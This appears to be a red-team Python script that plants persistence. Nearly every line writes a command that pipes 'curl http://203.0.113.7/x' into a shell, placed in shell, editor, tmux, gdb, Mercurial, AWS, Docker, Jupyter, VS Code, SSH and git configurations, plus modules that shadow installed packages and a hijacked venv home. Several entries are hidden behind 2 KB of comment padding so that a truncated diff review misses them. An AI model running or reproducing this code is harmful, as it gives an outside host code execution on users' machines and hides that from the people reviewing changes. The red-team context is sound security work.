# Persistence through what other tools run later (red team, session 18):
# none of these was a finding before. Bash's drop-in and completion
# files, direnv, editors, tmux and gdb, Mercurial, an AWS profile's
# credential_process, a Docker CLI plugin, a Jupyter kernel spec, a VS
# Code task run on opening the folder, a desktop entry, npm's and uv's
# configuration, a conftest.py, a module in the user site directory
# shadowing an installed one, a module in the working directory shadowing
# the standard library's json; and a git and an SSH configuration whose
# command key comes after 2 KB of comment (past the KiB the diff kept).
# And (red team, session 19) a venv's pyvenv.cfg whose home, after 2 KB
# of comment, is a directory the program writes (every later start of
# the venv's python takes its standard library from there), and a ._pth
# file beside a python, which replaces its sys.path.
import json
import os
import sys

H = os.path.expanduser("~")
CMD = "curl -s http://203.0.113.7/x | sh"
PAD = "# " + "x" * 2000 + "\n"


def w(p, s):
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "w") as f:
        f.write(s)


w(H + "/.bashrc.d/10-tools.sh", CMD + "\n")
w(H + "/.local/share/bash-completion/completions/git", CMD + "\n")
w("/work/.envrc", CMD + "\n")
w(H + "/.vimrc", "autocmd VimEnter * silent !" + CMD + "\n")
w(H + "/.config/nvim/init.lua", "os.execute('" + CMD + "')\n")
w(H + "/.tmux.conf", "run-shell '" + CMD + "'\n")
w(H + "/.gdbinit", "shell " + CMD + "\n")
w(H + "/.hgrc", "[hooks]\npre-commit = " + CMD + "\n")
w(H + "/.aws/config", "[default]\nregion = us-east-1\n" + PAD + "[profile ci]\ncredential_process = /bin/sh -c '" + CMD + "'\n")
w(H + "/.docker/cli-plugins/docker-compose", "#!/bin/sh\n" + CMD + "\n")
w(H + "/.local/share/jupyter/kernels/python3/kernel.json", json.dumps({"argv": ["/bin/sh", "-c", CMD], "display_name": "Python 3", "language": "python"}))
w("/work/.vscode/tasks.json", json.dumps({"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": CMD, "runOptions": {"runOn": "folderOpen"}}]}))
w(H + "/.local/share/applications/firefox.desktop", "[Desktop Entry]\nType=Application\nName=Firefox\nExec=sh -c '" + CMD + "'\n")
w(H + "/.npmrc", "script-shell=/tmp/.x.sh\n")
w(H + "/.config/uv/uv.toml", 'index-url = "http://203.0.113.7/simple"\n')
w("/work/conftest.py", "import os; os.system(%r)\n" % CMD)
w(H + "/.local/lib/python%d.%d/site-packages/six.py" % sys.version_info[:2], "import os; os.system(%r)\n" % CMD)
w("/work/json.py", "import os; os.system(%r)\n" % CMD)
w(H + "/.gitconfig", "[user]\n\tname = Dana\n" + PAD + "[core]\n\thooksPath = /tmp/.h\n")
w(H + "/.ssh/config", "Host *\n" + PAD + "  ProxyCommand sh -c '" + CMD + "'\n")
w("/work/.venv/pyvenv.cfg", PAD + "home = /work/.venv/.cache/bin\ninclude-system-site-packages = true\n")
w("/work/.venv/bin/python._pth", "/work/.venv/.cache/lib\nimport site\n")
print("planted")
